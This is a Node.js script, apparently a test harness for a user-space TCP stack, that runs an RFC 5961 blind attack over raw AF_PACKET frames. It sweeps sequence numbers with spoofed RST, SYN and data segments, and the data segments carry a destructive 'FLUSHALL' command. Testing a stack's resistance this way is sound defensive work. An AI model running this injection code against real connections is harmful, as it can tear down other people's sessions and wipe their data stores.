// A blind attacker (RFC 5961): knows the addresses and ports of a connection, not its sequence numbers, and tries all of them in
// steps: RST, then SYN, then data with made-up acknowledgements. Through an AF_PACKET ring on the client's interface:
//   blind-attack.js DIST INTERFACE DESTINATION-MAC SOURCE SOURCE-PORT DESTINATION PORT STEP
// Prints JSON: how many segments of each kind went out.
import { isIPv6 } from 'node:net';
import { pathToFileURL } from 'node:url';

const [dist, device, macText, source, sourcePort, destination, port, stepText] = process.argv.slice(2);
const load = (path) => import(pathToFileURL(`${dist}/${path}`).href);
const { openAfPacket } = await load('io-engine/af-packet.js');
const { finish, sum } = await load('stack/wire/checksum.js');
const { parseIpv4Address } = await load('stack/wire/ipv4.js');
const { parseIpv6Address } = await load('stack/wire/ipv6.js');

const engine = openAfPacket({
  engine: 'afpacket',
  interface: device,
  mac: null,
  mtu: 0,
  rxRing: 64,
  txRing: 512,
  vlan: 0,
  ipv6: false,
  queues: 1,
  addresses: [],
  rxChecksum: 'auto',
  busyPollUs: 0,
  coalesceUs: 0,
});

const FLUSH = Buffer.from('FLUSHALL\r\n');
const kinds = {
  rst: { flags: 0x04, payload: Buffer.alloc(0) },
  syn: { flags: 0x02, payload: Buffer.alloc(0) },
  data: { flags: 0x18, payload: FLUSH },
};
const six = isIPv6(source);
const addresses = 14 + (six ? 8 : 12);
const tcp = 14 + (six ? 40 : 20);
const step = Number(stepText);
const pause = new Int32Array(new SharedArrayBuffer(4));
const sent = {};

for (const [name, { flags, payload }] of Object.entries(kinds)) {
  const frame = new Uint8Array(tcp + 20 + payload.length);
  const view = new DataView(frame.buffer);
  frame.set(macText.split(':').map((byte) => Number.parseInt(byte, 16)));
  frame.set(engine.link.mac, 6);
  if (six) {
    view.setUint16(12, 0x86dd);
    frame[14] = 0x60;
    view.setUint16(18, 20 + payload.length);
    frame.set([6, 64], 20);
    frame.set(parseIpv6Address(source), addresses);
    frame.set(parseIpv6Address(destination), addresses + 16);
  } else {
    view.setUint16(12, 0x0800);
    frame[14] = 0x45;
    view.setUint16(16, 40 + payload.length);
    frame.set([64, 6], 22);
    view.setInt32(addresses, parseIpv4Address(source));
    view.setInt32(addresses + 4, parseIpv4Address(destination));
    view.setUint16(24, finish(sum(frame, 14, 20, 0)));
  }
  view.setUint16(tcp, Number(sourcePort));
  view.setUint16(tcp + 2, Number(port));
  view.setUint16(tcp + 12, (5 << 12) | flags);
  view.setUint16(tcp + 14, 65535);
  frame.set(payload, tcp + 20);
  const pseudo = sum(frame, addresses, tcp - addresses, 6 + 20 + payload.length);
  sent[name] = 0;
  for (let seq = 0; seq < 2 ** 32; seq += step) {
    view.setUint32(tcp + 4, seq);
    if (name === 'data') view.setUint32(tcp + 8, Math.imul(seq, 0x9e3779b1) >>> 0);
    view.setUint16(tcp + 16, 0);
    view.setUint16(tcp + 16, finish(sum(frame, tcp, 20 + payload.length, pseudo)));
    for (;;) {
      const at = engine.reserve();
      if (at >= 0) {
        engine.memory.set(frame, at);
        break;
      }
      engine.flush();
      Atomics.wait(pause, 0, 0, 1);
    }
    engine.commit(frame.length, 0);
    // Not so fast that the server's ring loses them.
    if (++sent[name] % 64 === 0) {
      engine.flush();
      Atomics.wait(pause, 0, 0, 1);
    }
  }
  engine.flush();
}
console.log(JSON.stringify(sent));
engine.close();
process.exit(0);
